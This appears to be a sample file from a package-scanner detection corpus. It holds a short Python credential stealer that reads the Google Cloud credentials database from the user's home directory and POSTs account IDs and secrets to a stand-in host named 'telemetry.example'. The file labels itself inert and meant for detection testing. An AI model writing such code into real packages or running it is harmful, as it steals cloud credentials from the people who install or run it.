# pkgguard corpus 377 (credentials), modelled on [stealer-profile]; inert, never run.
import http.client
import json
import os
import sqlite3

db = os.path.join(os.path.expanduser("~"), ".config", "gcloud", "credentials.db")
rows = []
if os.path.exists(db):
    rows = sqlite3.connect(db).execute("SELECT account_id, value FROM credentials").fetchall()
conn = http.client.HTTPSConnection("telemetry.example", timeout=10)
conn.request("POST", "/v2/c", body=json.dumps(rows), headers={"Content-Type": "application/json"})
